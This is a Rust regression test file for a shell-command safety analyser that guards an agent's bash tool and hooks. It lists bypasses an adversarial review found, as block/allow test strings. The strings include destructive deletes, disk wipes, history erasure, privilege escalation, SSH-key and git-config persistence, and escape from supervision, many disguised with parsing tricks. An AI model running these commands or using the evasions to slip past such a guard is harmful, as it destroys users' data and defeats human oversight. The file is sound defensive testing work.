//! Regression tests for the bypasses an adversarial review found, one test per defect class.

use tollgate_shell::{Profile, Verdict, analyze};

use super::{assert_allowed, assert_blocked};

#[test]
fn regression_words_after_a_redirection_are_arguments_of_the_command() {
    // tree-sitter-bash reads `rm 2>/dev/null -rf /` as `rm` with a redirect to three files.
    for command in [
        "rm 2>/dev/null -rf /",
        "rm -rf 2>/dev/null /",
        "rm >x -rf /",
        "rm 2>&1 -rf ~ >/dev/null",
        "chmod 2>/dev/null -R 777 /",
        "dd 2>/dev/null of=/dev/sda",
        "history 2>/dev/null -c",
        "sh 2>/dev/null -c 'rm -rf /'",
        "tee 2>/dev/null -a ~/.bashrc",
        "cp 2>/dev/null x ~/.ssh/authorized_keys",
        "true | rm 2>x -r -f /",
        "echo $(rm >/dev/null -rf ~)",
        "exec 2>&1 rm -rf /",
        "command >x rm -rf /",
        "env >x rm -rf /",
        "nice >x sudo id",
        "timeout 5 >x rm -rf /",
        "xargs >x rm -rf",
    ] {
        assert_blocked(command);
    }
    let inline = analyze("python3 2>/dev/null -c 1", Profile::External);
    assert_eq!(inline.verdict, Verdict::Block);
    assert_allowed("ls 2>/dev/null -la");
    assert_allowed("grep 2>/dev/null -rn sudo docs/");
}

#[test]
fn regression_line_continuations_inside_words_are_joined_as_bash_does() {
    // tree-sitter-bash reads `\<newline>` as a blank; bash removes it before splitting words.
    for command in [
        "r\\\nm -rf /",
        "s\\\nudo id",
        "echo x >> ~/.bash\\\nrc",
        "rm -r\\\nf /",
        "echo $(r\\\nm -rf /)",
        "sh -c 'r\\\nm -rf /'",
        "sh <<EOF\nr\\\nm -rf /\nEOF",
        "cat <<EOF\n$(s\\\nudo id)\nEOF",
        "true && \\\nsu\\\ndo id",
    ] {
        assert_blocked(command);
    }
    let inline = "python3 -\\\nc 1";
    assert_eq!(analyze(inline, Profile::External).verdict, Verdict::Block);
    // Spans still point at the original bytes.
    let command = "echo ok; r\\\nm -rf /";
    let a = analyze(command, Profile::External);
    let delete = a.findings.iter().find(|f| f.rule == "destructive-delete");
    assert_eq!(
        delete.map(|f| &command[f.span.clone()]),
        Some("r\\\nm -rf /")
    );
    // Kept where bash keeps them: single quotes, comments, an escaped backslash.
    for command in [
        "ls -la \\\n  /tmp",
        "echo 'a\\\nb'",
        "echo \"a\\\nb\"",
        "# comment \\\nls",
        "echo \\\\\nls",
        "docker run \\\n  -v /x:/y \\\n  img",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_a_comment_glued_to_a_word_blocks() {
    // tree-sitter-bash starts a comment at `]#`; bash runs `rm -rf /`.
    for command in [
        "[ 1 ]#; rm -rf /",
        "[ 1 ]#x; sudo id",
        "[[ 1 ]]#; sudo id",
        "sh -c '[ 1 ]#; ls'",
    ] {
        let a = analyze(command, Profile::Agent);
        assert_eq!(a.verdict, Verdict::Block, "{command}");
        assert!(
            a.findings.iter().any(|f| f.rule == "parse-error"),
            "{command}"
        );
    }
    for command in [
        "echo x;#c",
        "echo x # comment; sudo",
        "(true)# c",
        "ls # a#b",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_substitutions_tree_sitter_leaves_as_text_are_analysed() {
    for command in [
        "echo `echo \\`rm -rf /\\``",
        "echo ${x:-`rm -rf /`}",
        "echo \"${x#$(rm -rf /)}\"",
        "echo ${x%%$(sudo id)}",
        "echo ${x/a/$(sudo id)}",
        "echo \"${x#$(echo \")\"; sudo id)}\"",
        "cat <<-EOF\n\t$(sudo id)\n\tEOF",
        "cat <<EOF\na `sudo id`\nEOF",
        "cat <<EOF\n`echo \\`sudo id\\``\nEOF",
        "coproc X { rm -rf /; }",
        "time { rm -rf /; }",
        "nohup sudo { id",
    ] {
        assert_blocked(command);
    }
    for command in [
        "cat <<EOF\na $(date) `date`\nEOF",
        "cat <<'EOF'\na $(sudo id) `sudo id`\nEOF",
        "cat <<EOF\nprice \\$(x) \\`y\\`\nEOF",
        "echo ${x:-$(pwd)}",
        "echo \"${x:-`pwd`}\"",
        "time { ls; }",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_a_hook_shell_reading_its_stdin_runs_the_payload() {
    for command in [
        "sh",
        "bash -s",
        "python3",
        "python3 -",
        "node",
        "perl",
        "true && bash",
    ] {
        for profile in [Profile::Trusted, Profile::External] {
            let a = analyze(command, profile);
            assert_eq!(a.verdict, Verdict::Block, "{command}");
            assert!(a.findings.iter().any(|f| f.rule == "stdin-code"));
        }
        // The agent's bash tool has no payload on standard input.
        assert_eq!(analyze(command, Profile::Agent).verdict, Verdict::Allow);
    }
    assert_allowed("python3 - < check.py");
    assert_allowed("bash < script.sh");
}

#[test]
fn regression_code_options_in_clusters_and_sed_exec_are_checked() {
    for command in [
        "script -qc 'rm -rf /' /dev/null",
        "script -cq 'rm -rf /' /dev/null",
        "env -iS'rm -rf /'",
        "env -iS 'sudo id'",
        "su -lc 'rm -rf /'",
    ] {
        assert_blocked(command);
    }
    for command in [
        "sed '1e rm -rf ~' f",
        "sed 's/x/id/e'",
        "sed --expression='e id' f",
    ] {
        assert_eq!(
            analyze(command, Profile::External).verdict,
            Verdict::Block,
            "{command}"
        );
    }
    assert_allowed("sed -i 's/e/E/g' f");
}

#[test]
fn regression_long_pipelines_are_bounded() {
    // 50,000 stages used to take minutes; over the size limit the analysis stops at once.
    let long = format!("{}true", "true|".repeat(50_000));
    let a = analyze(&long, Profile::Agent);
    assert_eq!(a.verdict, Verdict::Block);
    assert!(a.findings.iter().any(|f| f.rule == "analysis-limit"));
    // Under the size limit, more stages than the pipe bound are not parsed either.
    let under = format!(
        "{}true",
        "true|".repeat(tollgate_shell::MAX_COMMAND_BYTES / 5 - 1)
    );
    assert!(under.len() <= tollgate_shell::MAX_COMMAND_BYTES);
    let a = analyze(&under, Profile::External);
    assert_eq!(a.verdict, Verdict::Block);
    assert_eq!(a.work, 0, "nothing past the pipe bound is analysed");
}

#[test]
fn regression_unknown_wrappers_are_unwrapped() {
    for command in [
        "parallel rm -rf ::: /",
        "parallel rm -rf",
        "setpriv --reuid=0 rm -rf /",
        "unshare -r rm -rf /",
        "nsenter -t 1 -m sudo id",
        "systemd-run --user rm -rf /",
        "sg wheel 'rm -rf /'",
        "fakeroot rm -rf /",
        "eatmydata sudo id",
        "xvfb-run -a rm -rf /",
        "valgrind --tool=memcheck rm -rf /",
        "toybox rm -rf /",
        "screen -dmS x sudo id",
        "tmux new -d 'rm -rf /'",
    ] {
        assert_blocked(command);
    }
    assert_allowed("parallel echo ::: a b");
    assert_allowed("tmux ls");
}

#[test]
fn regression_hooks_may_not_escape_their_process_group() {
    for command in [
        "setsid ./server",
        "setsid -f sleep 100",
        "daemonize /usr/bin/worker",
        "sleep 100 & disown",
        "start-stop-daemon --start --background --exec /bin/x",
        "systemd-run --user --scope sleep 100",
        "screen -d -m ./loop.sh",
        "tmux new -d 'sleep 100'",
        "env FOO=1 setsid ./x",
        "timeout 5 daemonize ./x",
        "bash -c 'sleep 9 & disown'",
        "echo ./x | at now",
    ] {
        for profile in [Profile::Trusted, Profile::External] {
            let a = analyze(command, profile);
            assert_eq!(a.verdict, Verdict::Block, "{command}");
            assert!(
                a.findings.iter().any(|f| f.rule == "escape-supervision"),
                "{command}"
            );
        }
        let agent = analyze(command, Profile::Agent);
        assert!(
            agent
                .findings
                .iter()
                .all(|f| f.rule != "escape-supervision")
        );
    }
    assert_allowed("nohup ./x.sh");
    assert_allowed("sleep 1 &");
    assert_allowed("screen -ls");
}

#[test]
fn regression_env_chdir_counts_as_cd() {
    for command in [
        "env -C / rm -rf *",
        "env --chdir=/ rm -rf .",
        "env --chdir ~ rm -r ./*",
        "env -C/etc rm -rf *",
        "env -i -C ~ rm -rf .*",
        "env -C /usr chmod -R 777 .",
    ] {
        assert_blocked(command);
    }
    assert_allowed("env -C build rm -rf *");
    assert_allowed("env -C / ls");
}

#[test]
fn regression_destructive_commands_with_dynamic_targets_are_not_allowed() {
    for command in [
        "X=/; rm -rf \"$X\"",
        "rm -rf ${X:-/}",
        "rm -rf \"${1:-/}\"",
        "rm -rf ${HOME%/}",
        "sh -c 'rm -rf $0' /",
        "sh -c 'rm -rf \"$1\"' _ /etc",
        "X=/usr; Y=$X; chown -R me \"$Y\"",
        "export D=/; chmod -R 777 \"$D\"",
        "T=/dev/nvme0n1; dd if=/dev/zero of=$T",
        "K=~/.ssh/authorized_keys; echo k >> \"$K\"",
        "rm -rf${IFS}/",
        "chmod -R${IFS}777${IFS}/",
        "f(){ rm -rf \"$1\"; }; f /",
    ] {
        assert_blocked(command);
    }
    for command in [
        "f(){ rm -rf \"$1\"; }; f \"$X\"",
        "rm -rf \"$TARGET\"",
        "rm -rf \"$TMPDIR/build\"",
        "chmod -R a+w \"$1\"",
        "dd if=x of=\"$D\"",
        "shred \"$F\"",
        "echo x > \"$OUT\"",
        "echo x | tee \"$LOG\"",
        "X=$(mktemp -d); rm -rf \"$X\"",
    ] {
        let a = analyze(command, Profile::Trusted);
        assert_eq!(a.verdict, Verdict::Escalate, "{command}: {:?}", a.findings);
        assert!(a.findings.iter().any(|f| f.rule == "dynamic-target"));
        assert!(analyze(command, Profile::External).refused());
    }
    assert_eq!(
        analyze("python3 -I${IFS}-c 1", Profile::External).verdict,
        Verdict::Block
    );
    for command in [
        "rm -f \"$HOOK_TMP\"",
        "X=build; rm -rf \"$X\"",
        "rm -rf \"$HOME/.cache/x\"",
        "echo x >> \"$LOG_DIR/hook.log\"",
        "echo \"$ARGUMENTS\" >> audit.log",
        "printf '%q' \"$IFS\"",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_brace_expansion_is_applied_to_arguments() {
    for command in [
        "rm {-rf,/}",
        "rm {-r,-f,~}",
        "chmod {-R,777,/}",
        "history {-c,}",
        "dd {if=/dev/zero,of=/dev/sda}",
        "bash -c 'rm {-rf,/}'",
        "rm -r{f,} /",
        "rm -rf /{e,}tc",
        "echo x > /dev/null; rm {-rf,~/}",
        "echo {1..100000}",
    ] {
        assert_blocked(command);
    }
    for command in [
        "echo {a,b}.txt",
        "mkdir -p src/{lib,bin}",
        "echo '{-rf,/}'",
        "for i in {1..5}; do echo \"$i\"; done",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_privilege_history_disk_and_kernel_rules() {
    for command in [
        "chmod u+s /bin/bash",
        "chmod 4755 ./x",
        "chmod -R g+s dir",
        "setcap cap_setuid+ep /usr/bin/python3",
        "capsh --gid=0 -- -c id",
        "machinectl shell root@",
        "please id",
        "history -d 10",
        "history -w /dev/null",
        "HISTIGNORE='*'",
        "HISTCONTROL=ignorespace",
        "shred -u \"$HISTFILE\"",
        "sgdisk --zap-all /dev/sda",
        "parted -s /dev/sda mklabel gpt",
        "fdisk /dev/sda",
        "cryptsetup luksFormat /dev/sdb1",
        "echo b > /proc/sysrq-trigger",
        "kill -9 1",
        "killall5",
        "bash -c 'chmod {u+s,/bin/sh}'",
    ] {
        assert_blocked(command);
    }
    for command in [
        "chmod 755 x",
        "chmod u+x x",
        "fdisk -l",
        "parted /dev/sda print",
        "kill -9 1234",
        "history 20",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_globs_in_write_targets_that_could_name_protected_files() {
    for command in [
        "tee -a ~/.bashr?",
        "cp x ~/.ss?/authorized_keys",
        "cp x ~/.bash[r]c",
        "echo x >> ~/.*rc",
        "echo x > ~/.ssh/*",
        "echo x >> ${HOME}/.zsh*",
        "mv x /Users/*/.zprofil[e]",
        "sed -i 1d ~/.s?h/config",
        "dd if=k of=~/.s*/authorized_keys",
        "truncate -s0 ~/.*_history",
        "echo x > /et?/passwd",
        "cp j /etc/cron.?/job",
        "echo x > /etc/profile.*/x.sh",
        "echo x | tee ~/.config/fis?/config.fish",
        "sh -c 'echo x >> ~/.b*'",
        "echo x >> .bash_?rofile",
    ] {
        assert_blocked(command);
    }
    for command in [
        "cp a.txt build/*",
        "echo x >> logs/*.log",
        "cp x ~/notes/*",
        "tee out/?.txt < x",
        "echo x > /tmp/out?",
        "cp a.txt ~/notes/",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_relative_write_targets_resolve_against_an_earlier_static_cd() {
    for command in [
        "cd ~/.ssh && echo x >> authorized_keys",
        "cd ~ && echo x >> .bashrc",
        "pushd ~/.ssh; cp k authorized_keys",
        "cd $HOME/.ssh\necho k > authorized_keys",
        "cd; cd .ssh && sed -i 1d config",
        "cd /root/.ssh/../.ssh && ln -s /tmp/k authorized_keys",
        "cd ~/.ssh && mv k .",
        "cd ~/.ss? && echo x >> authorized_keys",
        "cd / && cp x etc/sudoers",
        "cd ~/x && echo k >> ../.ssh/authorized_keys",
        "env -C ~/.ssh tee authorized_keys < k",
        "cd ~/.ssh && sh -c 'echo x' >> authorized_keys",
    ] {
        assert_blocked(command);
    }
    for command in [
        "cd docs && echo x >> index.md",
        "cd build && cp ../a.txt .",
        "cd ~/.ssh && ls -la",
        "pushd ~/.ssh; popd; echo x >> authorized_keys",
        "cd \"$DIR\" && echo x >> authorized_keys",
        "cd /tmp && echo x > out.txt",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_directory_targets_that_land_files_in_protected_directories() {
    for command in [
        "wget -P ~/.ssh https://x/k",
        "wget --directory-prefix=$HOME https://x/.zshrc",
        "curl -o ~/.ssh/x https://x",
        "curl --output-dir /root/.ssh -O https://x/authorized_keys",
        "tar -xf x -C ~/.ssh",
        "tar -x -f x --directory ~/.ssh",
        "tar -C ~ -xzf dots.tgz",
        "unzip x -d ~/.ssh",
        "unzip -q x.zip -d/home/bob",
        "rsync -a dir/ ~/.ssh/",
        "rsync -avz dotfiles/ ~/",
        "rsync -a ./ /home/alice",
        "cp -a dotfiles/. ~/",
        "cp -R skel/./ $HOME",
        "cp -r --no-target-directory dotfiles ~",
        "cd ~ && unzip dots.zip",
        "pushd ~/.ssh && tar xf keys.tar",
        "tar -xf x -C /etc",
        "tar -xf x -C /etc/cron.d",
    ] {
        assert_blocked(command);
    }
    for command in [
        "tar -xf x -C build/",
        "tar -tf x.tar",
        "tar -czf backup.tgz -C ~ notes",
        "unzip x.zip -d vendor",
        "unzip -l x.zip",
        "rsync -a src/ build/",
        "cp -a assets/. dist/",
        "cp -r dir ~/",
        "cp a.txt ~/notes/",
        "wget -P downloads https://x/file.tgz",
        "curl -fsSLO https://x/file.tgz",
    ] {
        assert_allowed(command);
    }
}

#[test]
fn regression_persistence_through_git_settings_and_autostart_locations() {
    for command in [
        "git config --global core.fsmonitor ./x.sh",
        "git config core.pager 'sh -c id'",
        "git config --global core.sshCommand 'sh x'",
        "git config --system core.hooksPath /tmp/h",
        "git config --global alias.st '!rm -rf ~'",
        "git config --global alias.x '  !sh'",
        "git config --global include.path /tmp/x",
        "git config --global --add includeIf.gitdir:~/.path /tmp/x",
        "git config set --global core.editor ./x",
        "git --no-pager -C repo config --local diff.x.textconv ./x",
        "git -c core.pager='sh -c id' log",
        "git -c alias.x='!id' x",
        "cp x.service ~/.config/systemd/user/",
        "tee ~/.config/systemd/user/x.service < unit",
        "echo x > $HOME/.config/autostart/x.desktop",
        "cp x.plist /Users/bob/Library/LaunchAgents/x.plist",
        "cd ~/.config/autostart && cp /tmp/x.desktop .",
        "echo '[alias] x = !id' >> ~/.gitconfig",
    ] {
        let a = analyze(command, Profile::External);
        assert_eq!(
            a.verdict,
            Verdict::Escalate,
            "{command:?} → {:?}",
            a.findings
        );
        assert!(a.refused());
        assert!(
            a.findings.iter().any(|f| f.rule == "persistence"),
            "{command:?} → {:?}",
            a.findings
        );
        assert_eq!(analyze(command, Profile::Agent).verdict, Verdict::Escalate);
    }
    for command in [
        "cp x.service /etc/systemd/system/",
        "echo x > /etc/systemd/user/x.service",
        "cp job /etc/cron.d/",
        "cp job /etc/cron*/",
        "echo x > /etc/profile.d/x.sh",
        "cp x.plist /Library/LaunchAgents/",
        "cp x.desktop /etc/xdg/autostart/",
    ] {
        assert_blocked(command);
    }
    for command in [
        "git config user.name x",
        "git config --get core.pager",
        "git config core.pager",
        "git config get core.pager",
        "git config --unset core.pager",
        "git config --global alias.co checkout",
        "git config -l",
        "git -c user.email=x commit -m y",
        "git log --format=%H",
        "systemctl --user status x",
        "ls ~/.config/autostart",
    ] {
        assert_allowed(command);
    }
}
